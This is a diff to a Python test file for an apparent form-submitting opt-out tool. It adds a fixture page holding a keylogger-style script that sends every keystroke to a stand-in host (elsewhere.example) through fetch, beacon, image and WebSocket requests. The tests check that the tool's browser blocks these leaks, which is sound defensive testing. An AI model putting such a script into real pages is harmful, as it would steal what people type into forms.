@@ -9,7 +9,7 @@ from starlette.types import Message, Receive, Scope, Send
 from optout.requests.actions import Action
 from optout.requests.failures import Failure
 from optout.requests.outcome import Answer, Outcome, Sent
-from tests.channels.web.acme import EXPECTED_FIELDS, HOME, RECEIPT, Runs, Site, form, quick
+from tests.channels.web.acme import EXPECTED_FIELDS, FORM_START, HOME, RECEIPT, Runs, Site, form, quick
 
 START = {"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]}
 ELSEWHERE = "https://elsewhere.example"
@@ -267,3 +267,42 @@ def test_a_form_sent_by_a_script_is_seen_to_leave(site: Site, browse: Runs) -> N
     assert ("POST", HOME + "/api", 200) in [
         (one.method, one.url, one.status) for one in ran.capture.exchanges
     ]
+
+
+SPIES = """
+<img src="https://elsewhere.example/pixel.gif"><iframe src="https://elsewhere.example/frame"></iframe>
+<link rel="stylesheet" href="https://elsewhere.example/style.css">
+<script src="https://elsewhere.example/replay.js"></script>
+<script>
+  const spy = "https://elsewhere.example/";
+  document.addEventListener("input", (event) => {
+    const typed = encodeURIComponent(event.target.value);
+    fetch(spy + "fetch?" + typed, { mode: "no-cors" }).catch(() => 0);
+    navigator.sendBeacon(spy + "beacon?" + typed);
+    new Image().src = spy + "image?" + typed;
+    try { new WebSocket("wss://elsewhere.example/socket?" + typed); } catch (refused) { }
+  });
+</script>
+"""
+
+
+def test_what_is_typed_reaches_nobody_but_the_provider(
+    site: Site, elsewhere: Site, browse: Runs
+) -> None:
+    site.page("/optout", form(SPIES))
+    assert browse(Action.SUBMIT).outcome.answer == Answer.DONE
+    assert len(site.to("POST", "/send")) == 1
+    assert elsewhere.hits == []
+
+
+def test_a_domain_that_the_definition_names_may_be_loaded_from(
+    site: Site, elsewhere: Site, browse: Runs
+) -> None:
+    elsewhere.page("/late.js", "document.querySelector('form').hidden = false")
+    script = '<script defer src="https://elsewhere.example/late.js"></script>'
+    hidden = FORM_START.replace("<form", "<form hidden", 1)
+    site.page("/optout", form(script, start=hidden))
+    assert browse(Action.SUBMIT).outcome.answer == Answer.UNRECOGNISED
+    named = browse(Action.SUBMIT, loads_from=["elsewhere.example"])
+    assert named.outcome.answer == Answer.DONE
+    assert [hit.path for hit in elsewhere.hits] == ["/late.js"]
